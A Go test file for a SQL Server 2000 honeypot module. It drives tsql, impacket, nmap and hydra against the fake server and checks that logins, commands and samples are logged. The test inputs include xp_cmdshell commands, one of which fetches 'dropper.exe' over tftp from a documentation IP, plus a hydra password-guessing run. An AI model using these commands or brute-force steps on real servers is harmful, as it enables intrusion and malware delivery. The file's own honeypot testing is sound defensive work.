package mssql

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"go.uber.org/goleak"

	"github.com/smallpot/smallpot/internal/config"
	"github.com/smallpot/smallpot/internal/event"
	"github.com/smallpot/smallpot/internal/service"
	"github.com/smallpot/smallpot/internal/service/servicetest"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// transcriptServer accepts sa with an empty password (the default) and
// sa/letmein, the password of the captured impacket and hydra sessions.
func transcriptServer(t testing.TB) *Server {
	return newServer(t, func(c *Config) {
		c.Accept = append(c.Accept, Credential{User: "sa", Password: "letmein"})
	})
}

func TestTranscripts(t *testing.T) {
	servicetest.RunTranscripts(t, "testdata", "mssql", func() any { return transcriptServer(t) }, servicetest.TranscriptOptions{})
}

// events returns the events of kind k with their details.
func details[T event.Detail](evs []*event.Event, k event.Kind) []T {
	var out []T
	for _, e := range servicetest.OfKind(evs, k) {
		out = append(out, e.Detail.(T))
	}
	return out
}

// lookClient finds a client program or skips, naming its Debian package.
func lookClient(t *testing.T, name, pkg string) string {
	t.Helper()
	if testing.Short() {
		t.Skipf("%s runs a real client; skipped in -short mode", name)
	}
	p, err := exec.LookPath(name)
	if err != nil {
		t.Skipf("%s is not installed (Debian package %s)", name, pkg)
	}
	return p
}

func run(t *testing.T, timeout time.Duration, stdin string, name string, args ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	cmd.Stdin = strings.NewReader(stdin)
	cmd.Dir = t.TempDir()
	cmd.Env = append(os.Environ(), "HOME="+cmd.Dir)
	out, _ := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Fatalf("%s did not finish within %s:\n%s", name, timeout, out)
	}
	return string(out)
}

// FreeTDS's tsql logs in (asking for TDS 7.4; the fake answers 7.1, as
// SQL Server 2000 did), runs two batches, and every step is recorded.
func TestTsqlSession(t *testing.T) {
	tsql := lookClient(t, "tsql", "freetds-bin")
	h := start(t, newServer(t, func(c *Config) { c.Accept = []Credential{{User: "sa", Password: "Pa55 w0rd!"}} }))
	out := run(t, 20*time.Second, "select @@version\ngo\nexec master..xp_cmdshell 'ver'\ngo\nexit\n",
		tsql, "-H", "127.0.0.1", "-p", strconv.Itoa(int(h.Addr.Port())), "-U", "sa", "-P", "Pa55 w0rd!")
	for _, want := range []string{"Microsoft SQL Server  2000 - 8.00.760 (Intel X86)", "Microsoft Windows 2000 [Version 5.00.2195]", "(return status = 0)"} {
		if !strings.Contains(out, want) {
			t.Errorf("tsql output lacks %q:\n%s", want, out)
		}
	}
	evs := h.WaitClosed(t, 1)
	logins := details[*event.Login](evs, event.KindLogin)
	if len(logins) != 1 || logins[0].User != "sa" || logins[0].Password != "Pa55 w0rd!" || !logins[0].Success {
		t.Fatalf("login events %+v, want sa / Pa55 w0rd! accepted", logins)
	}
	reqs := details[*event.Request](evs, event.KindRequest)
	if len(reqs) != 2 || reqs[0].Method != "PRELOGIN" || reqs[1].Method != "LOGIN7" || reqs[1].Version != "7.4" || reqs[1].UserAgent != "TSQL" {
		t.Errorf("request events %+v, want PRELOGIN then LOGIN7 7.4 from TSQL", reqs)
	}
	var lines []string
	for _, c := range details[*event.Command](evs, event.KindCommand) {
		lines = append(lines, c.Shell+": "+strings.TrimSpace(c.Line))
	}
	want := []string{"tsql: select @@version", "tsql: exec master..xp_cmdshell 'ver'", "cmd: ver"}
	if !slices.Equal(lines, want) {
		t.Errorf("commands %q, want %q", lines, want)
	}
}

func TestTsqlLoginFailed(t *testing.T) {
	tsql := lookClient(t, "tsql", "freetds-bin")
	h := start(t, newServer(t, nil))
	out := run(t, 20*time.Second, "exit\n", tsql, "-H", "127.0.0.1", "-p", strconv.Itoa(int(h.Addr.Port())), "-U", "admin", "-P", "hunter2")
	if !strings.Contains(out, "Login failed for user 'admin'.") || !strings.Contains(out, "Msg 18456") {
		t.Errorf("tsql output lacks SQL Server's login failure:\n%s", out)
	}
	evs := h.WaitClosed(t, 1)
	logins := details[*event.Login](evs, event.KindLogin)
	if len(logins) != 1 || logins[0].User != "admin" || logins[0].Password != "hunter2" || logins[0].Success {
		t.Fatalf("login events %+v, want admin / hunter2 refused", logins)
	}
}

// impacketClient returns the command running impacket's mssqlclient.py,
// or skips naming the Debian package.
func impacketClient(t *testing.T) []string {
	t.Helper()
	if testing.Short() {
		t.Skip("mssqlclient.py runs a real client; skipped in -short mode")
	}
	for _, name := range []string{"impacket-mssqlclient", "mssqlclient.py"} {
		if p, err := exec.LookPath(name); err == nil {
			return []string{p}
		}
	}
	script := "/usr/share/doc/python3-impacket/examples/mssqlclient.py"
	if _, err := os.Stat(script); err == nil {
		// The example runs with the system Python, where the package
		// installed the impacket module.
		for _, py := range []string{"/usr/bin/python3", "python3"} {
			if p, err := exec.LookPath(py); err == nil && importsImpacket(p) {
				return []string{p, script}
			}
		}
	}
	t.Skip("impacket's mssqlclient.py is not installed (Debian package python3-impacket)")
	return nil
}

// importsImpacket reports whether python can import impacket, asking it
// with a bound in time.
func importsImpacket(python string) bool {
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, python, "-c", "import impacket")
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	return cmd.Run() == nil
}

func TestImpacketSession(t *testing.T) {
	cmd := impacketClient(t)
	h := start(t, newServer(t, func(c *Config) { c.Accept = []Credential{{User: "sa", Password: "*"}} }))
	dir := t.TempDir()
	file := filepath.Join(dir, "cmds.sql")
	sql := "select @@version\nexec master..xp_cmdshell 'tftp -i 198.51.100.7 GET dropper.exe c:\\winnt\\temp\\d.exe'\nselect db_name()\n"
	if err := os.WriteFile(file, []byte(sql), 0o600); err != nil {
		t.Fatal(err)
	}
	args := append(cmd[1:], "-port", strconv.Itoa(int(h.Addr.Port())), "-file", file, "sa:s3cret@127.0.0.1")
	out := run(t, 30*time.Second, "", cmd[0], args...)
	if !strings.Contains(out, "Microsoft SQL Server  2000 - 8.00.760") || !strings.Contains(out, "master") {
		t.Errorf("mssqlclient output lacks the version or the database:\n%s", out)
	}
	evs := h.WaitClosed(t, 1)
	logins := details[*event.Login](evs, event.KindLogin)
	if len(logins) != 1 || logins[0].User != "sa" || logins[0].Password != "s3cret" || !logins[0].Success {
		t.Fatalf("login events %+v, want sa / s3cret accepted", logins)
	}
	var got []string
	for _, c := range details[*event.Command](evs, event.KindCommand) {
		got = append(got, c.Shell+": "+strings.TrimSpace(c.Line))
	}
	want := []string{"tsql: select @@version",
		`tsql: exec master..xp_cmdshell 'tftp -i 198.51.100.7 GET dropper.exe c:\winnt\temp\d.exe'`,
		`cmd: tftp -i 198.51.100.7 GET dropper.exe c:\winnt\temp\d.exe`,
		"tsql: select db_name()"}
	if !slices.Equal(got, want) {
		t.Errorf("commands\n got %q\nwant %q", got, want)
	}
	dl := details[*event.Download](evs, event.KindDownload)
	if len(dl) != 1 || dl[0].Protocol != "tftp" || dl[0].Host != "198.51.100.7" {
		t.Errorf("downloads %+v, want the tftp fetch from 198.51.100.7", dl)
	}
	samples := details[*event.Sample](evs, event.KindSample)
	if len(samples) != 1 || samples[0].Source != "mssql.batch" {
		t.Errorf("samples %+v, want the xp_cmdshell batch", samples)
	}
}

// exchangeUDP sends req and returns the answer, or nil after wait.
func exchangeUDP(t *testing.T, h *servicetest.Harness, req []byte, wait time.Duration) []byte {
	t.Helper()
	c, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(h.UDPAddr))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Write(req); err != nil {
		t.Fatal(err)
	}
	_ = c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 2048)
	n, err := c.Read(buf)
	if err != nil {
		return nil
	}
	return buf[:n]
}

// waitRequests waits for n request events.
func waitRequests(t *testing.T, h *servicetest.Harness, n int) []*event.Request {
	t.Helper()
	evs := h.Events.Wait(t, 10*time.Second, func(evs []*event.Event) bool {
		return len(servicetest.OfKind(evs, event.KindRequest)) >= n
	})
	return details[*event.Request](evs, event.KindRequest)
}

func TestSSRP(t *testing.T) {
	s := newServer(t, nil)
	h := start(t, s)
	want := s.browser.answer()
	for i, req := range [][]byte{{0x02}, {0x03}, []byte("\x04MSSQLSERVER\x00"), []byte("\x04mssqlserver")} {
		if got := exchangeUDP(t, h, req, 5*time.Second); !bytes.Equal(got, want) {
			t.Errorf("request %q: answer %q, want %q", req, got, want)
		}
		if r := waitRequests(t, h, i+1)[i]; r.Method != "SSRP" || r.Action != "answered" || r.Malformed != "" {
			t.Errorf("request %q: event %+v", req, r)
		}
	}
	if got := exchangeUDP(t, h, []byte("\x04SALES\x00"), 300*time.Millisecond); got != nil {
		t.Errorf("unknown instance answered %q", got)
	}
	if r := waitRequests(t, h, 5)[4]; r.Action != "unknown instance" || r.Headers[0].Value != "SALES" {
		t.Errorf("unknown instance event %+v", r)
	}
	if n := h.Samples.Len(); n != 0 {
		t.Errorf("%d samples stored for well-formed requests", n)
	}
}

// A Slammer-shaped datagram is never answered, and is kept whole: the
// engine's payload event, a sample with the datagram's SHA-256, and a
// request event naming why it is malformed.
func TestSlammerDatagramIsKept(t *testing.T) {
	h := start(t, newServer(t, nil))
	if len(slammer) != 376 || slammer[0] != 0x04 {
		t.Fatalf("test datagram is %d bytes starting %#x", len(slammer), slammer[0])
	}
	if got := exchangeUDP(t, h, slammer, 300*time.Millisecond); got != nil {
		t.Errorf("Slammer's datagram was answered: %q", got)
	}
	r := waitRequests(t, h, 1)[0]
	sum := sha256.Sum256(slammer)
	sha := hex.EncodeToString(sum[:])
	if r.Sample != sha || r.BodyLen != 376 || !strings.Contains(r.Malformed, "375 bytes") || r.Query != "CLNT_UCAST_INST" {
		t.Errorf("request event %+v, want CLNT_UCAST_INST of 375 bytes kept as sample %s", r, sha)
	}
	if got, ok := h.Samples.Get(sha); !ok || !bytes.Equal(got, slammer) {
		t.Error("the sample store does not hold the datagram")
	}
	evs := h.Events.Events()
	ps := details[*event.Payload](evs, event.KindPayload)
	ss := details[*event.Sample](evs, event.KindSample)
	if len(ps) != 1 || !bytes.Equal(ps[0].Data, slammer) || len(ss) != 1 || ss[0].SHA256 != sha || ss[0].Source != "mssql.ssrp" || ss[0].Size != 376 {
		t.Errorf("payload %+v / sample %+v events", ps, ss)
	}
}

// The default reply factor lets exactly the answer to a one-byte request
// through: one byte less and the engine refuses it.
func TestReplyFactorIsTheAnswerSize(t *testing.T) {
	c := DefaultConfig(service.ProfileWindows2000)
	if c.ReplyFactor != 91 || len(c.Persona.browser().answer()) != 91 {
		t.Fatalf("reply_factor %g for an answer of %d bytes; README.md says 91", c.ReplyFactor, len(c.Persona.browser().answer()))
	}
	s := newServer(t, nil)
	s.cfg.ReplyFactor = 90 // past Validate, straight to the engine
	h := start(t, s)
	if got := exchangeUDP(t, h, []byte{0x02}, 300*time.Millisecond); got != nil {
		t.Errorf("answer of %d bytes sent with reply factor 90", len(got))
	}
	if r := waitRequests(t, h, 1)[0]; !strings.Contains(r.Action, "reply larger") {
		t.Errorf("action %q, want the refusal", r.Action)
	}
	// A longer request (CLNT_UCAST_INST) under the same factor passes.
	if got := exchangeUDP(t, h, []byte("\x04MSSQLSERVER"), 5*time.Second); len(got) != 91 {
		t.Errorf("instance request answered with %d bytes", len(got))
	}
}

// nmap -sV names SQL Server 2000 from its PRELOGIN answer. It relies on
// nmap-service-probes' "Probe TCP ms-sql-s" and the line
// match ms-sql-s m|^\x04\x01\x00\x25\x00\x00\x01\x00\x00\x00\x15\x00\x06\x01\x00\x1b\x00\x01\x02\x00\x1c\x00\x01\x03\x00\x1d\x00\x00\xff\x08\x00\x02\xf8| p/Microsoft SQL Server 2000/ v/8.00.760; SP3/
// (on a port other than 1433 nmap reaches that probe after some thirty
// others: some 40 seconds).
func TestNmapNamesSQLServer2000(t *testing.T) {
	nmap := lookClient(t, "nmap", "nmap")
	h := start(t, newServer(t, nil))
	out := run(t, 3*time.Minute, "", nmap, "-sV", "-Pn", "-n", "-p", strconv.Itoa(int(h.Addr.Port())), "127.0.0.1")
	if !regexp.MustCompile(`open\s+ms-sql-s\s+Microsoft SQL Server 2000 8\.00\.760; SP3`).MatchString(out) {
		t.Fatalf("nmap did not name Microsoft SQL Server 2000 8.00.760:\n%s", out)
	}
}

// nmap's ms-sql-info script asks the resolution service for the
// instances, then the instance for its version over TDS. nmap 7.93's
// script prints nothing even when it succeeds (its action tests
// "#output > 0" on a table keyed by instance name), so the test reads its
// debug lines: the SSRP string it parsed, and the TDS version it got.
// The UDP port is made "open ms-sql-m" for the script through a data
// directory whose nmap-services and nmap-payloads name the test's port.
func TestNmapMsSqlInfo(t *testing.T) {
	nmap := lookClient(t, "nmap", "nmap")
	if os.Geteuid() != 0 {
		t.Skip("nmap -sU needs root")
	}
	h := startWith(t, func(p int) *Server { return announcing(t, p, nil) })
	dir := t.TempDir()
	udp := strconv.Itoa(int(h.UDPAddr.Port()))
	if err := os.WriteFile(filepath.Join(dir, "nmap-services"), []byte("ms-sql-m\t"+udp+"/udp\t0.5\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "nmap-payloads"), []byte("udp "+udp+" \"\\x02\"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := run(t, 2*time.Minute, "", nmap, "-d2", "-sU", "-Pn", "-n", "--datadir", dir, "-p", "U:"+udp,
		"--script", "ms-sql-info", "--script-args", "mssql.instance-all", "127.0.0.1")
	tcp := strconv.Itoa(int(h.Addr.Port()))
	for _, want := range []string{
		udp + "/udp open  ms-sql-m",
		"SSRP Data: ServerName;WEBSERVER;InstanceName;MSSQLSERVER;IsClustered;No;Version;8.00.194;tcp;" + tcp + ";;",
		`Retrieved SSNetLib version for 127.0.0.1\MSSQLSERVER.`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("nmap output lacks %q", want)
		}
	}
	if strings.Contains(out, "threw an error") || t.Failed() {
		t.Fatalf("nmap:\n%s", out)
	}
	// The script's own TDS connection: a PRELOGIN, answered.
	h.Events.Wait(t, 10*time.Second, func(evs []*event.Event) bool {
		for _, r := range details[*event.Request](evs, event.KindRequest) {
			if r.Method == "PRELOGIN" && r.Action == "encryption:not_supported" {
				return true
			}
		}
		return false
	})
}

// hydra's mssql module sends TDS 4.2 login records; every attempt is a
// login event, and the one accepted is the one hydra reports.
//
// hydra 9.4 ends its attack as soon as a worker asks for a guess and
// none is left, killing workers still in the middle of one ("Writing
// restore file because N final worker threads did not complete"), so
// the last attempts may never reach the server: up to N of them may
// have no login event.
func TestHydra(t *testing.T) {
	const tasks = 4
	hydra := lookClient(t, "hydra", "hydra")
	h := start(t, newServer(t, func(c *Config) { c.Accept = []Credential{{User: "sa", Password: "letmein"}} }))
	dir := t.TempDir()
	// The user with the accepted password goes first, so the pair is in
	// hydra's first round of guesses, not among the last ones, which
	// hydra may cut off.
	users, passwords := []string{"sa", "admin", "dbo"}, []string{"123456", "letmein", "password", "sa"}
	if err := os.WriteFile(filepath.Join(dir, "users"), []byte(strings.Join(users, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "passwords"), []byte(strings.Join(passwords, "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	out := run(t, time.Minute, "", hydra, "-V", "-e", "n", "-t", strconv.Itoa(tasks), "-L", filepath.Join(dir, "users"), "-P", filepath.Join(dir, "passwords"),
		"-s", strconv.Itoa(int(h.Addr.Port())), "127.0.0.1", "mssql")
	if !regexp.MustCompile(`login: sa\s+password: letmein`).MatchString(out) {
		t.Errorf("hydra did not report sa / letmein:\n%s", out)
	}
	attemptRE := regexp.MustCompile(`\[ATTEMPT\] target 127\.0\.0\.1 - login "([^"]*)" - pass "([^"]*)"`)
	var attempts []string
	for _, m := range attemptRE.FindAllStringSubmatch(out, -1) {
		attempts = append(attempts, m[1]+"/"+m[2])
	}
	if len(attempts) != len(users)*(len(passwords)+1) {
		t.Fatalf("hydra made %d attempts, want %d:\n%s", len(attempts), len(users)*(len(passwords)+1), out)
	}
	cutOff := 0
	if m := regexp.MustCompile(`because (\d+) final worker threads? did not complete`).FindStringSubmatch(out); m != nil {
		cutOff, _ = strconv.Atoi(m[1])
	}
	// The worker that found nothing left to do is not one of them.
	if cutOff > tasks-1 {
		t.Fatalf("hydra says it cut off %d attempts; with %d workers it cannot cut off more than %d:\n%s", cutOff, tasks, tasks-1, out)
	}
	evs := h.Events.Wait(t, 10*time.Second, func(evs []*event.Event) bool {
		return len(servicetest.OfKind(evs, event.KindLogin)) >= len(attempts)-cutOff &&
			len(servicetest.OfKind(evs, event.KindClose)) == len(servicetest.OfKind(evs, event.KindConnect))
	})
	var logins []string
	hits := 0
	for _, l := range details[*event.Login](evs, event.KindLogin) {
		logins = append(logins, l.User+"/"+l.Password)
		if l.Success {
			hits++
		}
		if l.Success != (l.User == "sa" && l.Password == "letmein") {
			t.Errorf("login %s/%s success %v", l.User, l.Password, l.Success)
		}
	}
	if hits != 1 {
		t.Errorf("%d successful logins, want 1 (sa/letmein)", hits)
	}
	// Every login event is one of hydra's attempts, each at most once;
	// only the attempts hydra cut off may lack one.
	left := slices.Clone(attempts)
	for _, l := range logins {
		i := slices.Index(left, l)
		if i < 0 {
			t.Errorf("login %s is none of hydra's attempts (or one twice)", l)
			continue
		}
		left = slices.Delete(left, i, i+1)
	}
	if len(left) > cutOff {
		slices.Sort(attempts)
		slices.Sort(logins)
		t.Errorf("attempts %q have no login event (hydra cut off %d)\nlogin events\n %q\nhydra's attempts\n %q", left, cutOff, logins, attempts)
	}
}

// dial runs a raw TDS exchange: it writes each message and reads the
// reply to it.
type tdsClient struct {
	t *testing.T
	c *net.TCPConn
}

func (tc *tdsClient) send(b []byte) {
	tc.t.Helper()
	if _, err := tc.c.Write(b); err != nil {
		tc.t.Fatal(err)
	}
}

// reply reads one server message.
func (tc *tdsClient) reply() *Message {
	tc.t.Helper()
	_ = tc.c.SetReadDeadline(time.Now().Add(5 * time.Second))
	m, err := ReadMessage(tc.c, 1<<20, func(b byte) bool { return b == pktReply })
	if err != nil {
		tc.t.Fatalf("reading the reply: %v", err)
	}
	return m
}

func TestRawSessionAllHeadersAndPackets(t *testing.T) {
	h := start(t, newServer(t, nil))
	tc := &tdsClient{t, h.Dial(t)}
	tc.send(clientPackets(pktPrelogin, nmapPrelogin, 4096))
	if m := tc.reply(); !bytes.Equal(m.Data, preloginReply([4]byte{8, 0, 2, 0xf8}, encryptNotSup, 0)) {
		t.Fatalf("prelogin reply %x", m.Data)
	}
	tc.send(clientPackets(pktLogin7, buildLogin7(login7{version: 0x74000004, packetSize: 512, user: "SA", host: "ws"}), 4096))
	if m := tc.reply(); !bytes.Contains(m.Data, []byte{tokLoginAck}) || m.Data[len(m.Data)-9] != tokDone {
		t.Fatalf("login reply %x", m.Data)
	}
	// A 7.2 client's batch with ALL_HEADERS, over several packets of the
	// negotiated size; the answer comes in packets of that size too.
	text := "exec master..xp_cmdshell 'dir c:\\winnt\\system32'"
	tc.send(clientPackets(pktBatch, buildBatch(text, true), 64+headerLen))
	m := tc.reply()
	if m.Packets < 2 || !bytes.Contains(m.Data, ucs2Bytes("cmd.exe")) {
		t.Errorf("reply of %d packets, %d bytes, without cmd.exe in the listing", m.Packets, len(m.Data))
	}
	for i := 0; i+headerLen <= len(m.Raw); {
		n := int(m.Raw[i+2])<<8 | int(m.Raw[i+3])
		if n > 512 {
			t.Errorf("reply packet of %d bytes, over the negotiated 512", n)
		}
		i += n
	}
	tc.c.Close()
	evs := h.WaitClosed(t, 1)
	cmds := details[*event.Command](evs, event.KindCommand)
	if len(cmds) != 2 || cmds[0].Line != text || cmds[1].Line != `dir c:\winnt\system32` {
		t.Errorf("commands %+v", cmds)
	}
}

// A login's database must exist, as in SQL Server (error 4060).
func TestLoginUnknownDatabase(t *testing.T) {
	h := start(t, newServer(t, nil))
	tc := &tdsClient{t, h.Dial(t)}
	tc.send(clientPackets(pktLogin7, buildLogin7(login7{version: 0x71000001, user: "sa", dbase: "payroll"}), 4096))
	m := tc.reply()
	if !bytes.Contains(m.Data, ucs2Bytes("Cannot open database requested in login 'payroll'. Login fails.")) || bytes.Contains(m.Data, []byte{tokLoginAck}) {
		t.Errorf("reply %q", m.Data)
	}
	evs := h.WaitClosed(t, 1)
	if l := details[*event.Login](evs, event.KindLogin); len(l) != 1 || l[0].Success {
		t.Errorf("login %+v, want refused", l)
	}
}

// A message past max_message is kept up to the cap and ends the session.
func TestMaxMessage(t *testing.T) {
	h := start(t, newServer(t, func(c *Config) { c.MaxMessage = 4 << 10 }))
	big := clientPackets(pktLogin7, bytes.Repeat([]byte{'x'}, 10000), 4096)
	out := h.Exchange(t, big, 5*time.Second)
	if len(out) != 0 {
		t.Errorf("server answered %q", out)
	}
	evs := h.WaitClosed(t, 1)
	r := details[*event.Request](evs, event.KindRequest)
	if len(r) != 1 || !r[0].Truncated || r[0].Sample == "" {
		t.Fatalf("request events %+v", r)
	}
	if got, _ := h.Samples.Get(r[0].Sample); !bytes.Equal(got, big[:4<<10]) {
		t.Errorf("sample of %d bytes, want the first 4KiB", len(got))
	}
}

// A batch before any login ends the connection at its first header.
func TestBatchBeforeLogin(t *testing.T) {
	h := start(t, newServer(t, nil))
	in := clientPackets(pktBatch, buildBatch("exec xp_cmdshell 'dir'", false), 4096)
	if out := h.Exchange(t, in, 5*time.Second); len(out) != 0 {
		t.Errorf("server answered %q", out)
	}
	evs := h.WaitClosed(t, 1)
	if c := details[*event.Command](evs, event.KindCommand); len(c) != 0 {
		t.Errorf("a batch before login was run: %+v", c)
	}
	if p := details[*event.Payload](evs, event.KindPayload); len(p) != 1 || !bytes.Equal(p[0].Data, in) {
		t.Errorf("payload events %+v, want the bytes sent", p)
	}
}

func TestDefaultConfigs(t *testing.T) {
	w := DefaultConfig(service.ProfileWindows2000)
	l := DefaultConfig(service.ProfileLinuxIoT)
	if !w.Enabled || l.Enabled {
		t.Errorf("enabled: windows2000 %v, linux-iot %v; want true, false", w.Enabled, l.Enabled)
	}
	for _, c := range []*Config{w, l} {
		if err := c.Validate(); err != nil {
			t.Error(err)
		}
		if !slices.Equal(c.Ports, []int{1433}) || !slices.Equal(c.UDPPorts, []int{1434}) {
			t.Errorf("ports %v / %v", c.Ports, c.UDPPorts)
		}
	}
	if w.Describe() != "Microsoft SQL Server 2000 8.00.760" {
		t.Errorf("Describe() = %q", w.Describe())
	}
}

func TestConfigValidate(t *testing.T) {
	for _, tc := range []struct {
		name string
		mut  func(*Config)
	}{
		{"server name", func(c *Config) { c.Persona.ServerName = "web;server" }},
		{"long server name", func(c *Config) { c.Persona.ServerName = strings.Repeat("A", 16) }},
		{"instance", func(c *Config) { c.Persona.Instance = "" }},
		{"version", func(c *Config) { c.Persona.Version = "2000" }},
		{"version range", func(c *Config) { c.Persona.Version = "8.00.70000" }},
		{"browser version", func(c *Config) { c.Persona.BrowserVersion = "8.00.194;np" }},
		{"version string", func(c *Config) { c.Persona.VersionString = "" }},
		{"tcp port", func(c *Config) { c.Persona.TCPPort = 0 }},
		{"database", func(c *Config) { c.Persona.Database = "payroll" }},
		{"language", func(c *Config) { c.Persona.Language = "" }},
		{"os version", func(c *Config) { c.Persona.OSVersion = "a\r\nb" }},
		{"accept", func(c *Config) { c.Accept = []Credential{{User: ""}} }},
		{"max message", func(c *Config) { c.MaxMessage = 100 }},
		{"max batches", func(c *Config) { c.MaxBatches = 0 }},
		{"command cap", func(c *Config) { c.CommandCap = 10 }},
		{"reply factor above", func(c *Config) { c.ReplyFactor = 92 }},
		{"reply factor below", func(c *Config) { c.ReplyFactor = 50 }},
		{"reply factor after a longer name", func(c *Config) { c.Persona.ServerName = "SQLSERVER2000A" }},
	} {
		c := DefaultConfig(service.ProfileWindows2000)
		tc.mut(c)
		if err := c.Validate(); err == nil {
			t.Errorf("%s: Validate accepted a bad config", tc.name)
		}
	}
	// 1 keeps the resolution service silent; the exact answer size for a
	// renamed persona is accepted.
	c := DefaultConfig(service.ProfileWindows2000)
	c.ReplyFactor = 1
	if err := c.Validate(); err != nil {
		t.Error(err)
	}
	c.Persona.ServerName, c.Persona.NamedPipes = "SQLSERVER2000A", true
	c.ReplyFactor = float64(c.Persona.browser().answerSize())
	if err := c.Validate(); err != nil {
		t.Error(err)
	}
}

// The section decodes strictly over the profile defaults; the error for a
// reply factor that does not fit names the value that does.
func TestConfigFromYAML(t *testing.T) {
	cfg, err := config.Parse([]byte("services:\n  mssql:\n    accept:\n      - {user: sa, password: sa}\n    persona:\n      server_name: DBSRV01\n    reply_factor: 89\n"))
	if err != nil {
		t.Fatal(err)
	}
	rs, err := cfg.ResolveServices()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rs {
		if r.Module.Name != "mssql" {
			continue
		}
		c := r.Config.(*Config)
		if c.Persona.ServerName != "DBSRV01" || c.Persona.Version != "8.00.760" || len(c.Accept) != 1 || c.Accept[0].Password != "sa" || c.ReplyFactor != 89 {
			t.Errorf("decoded %+v", c)
		}
	}
	cfg, err = config.Parse([]byte("services:\n  mssql:\n    persona:\n      server_name: DATABASESERVER\n"))
	if err == nil {
		_, err = cfg.ResolveServices()
	}
	if err == nil || !strings.Contains(err.Error(), "reply_factor: 96") {
		t.Errorf("got %v, want an error naming reply_factor: 96", err)
	}
	cfg, err = config.Parse([]byte("services:\n  mssql:\n    persona:\n      banner: x\n"))
	if err == nil {
		_, err = cfg.ResolveServices()
	}
	if err == nil || !strings.Contains(err.Error(), "banner") {
		t.Errorf("got %v, want an unknown-key error naming banner", err)
	}
}
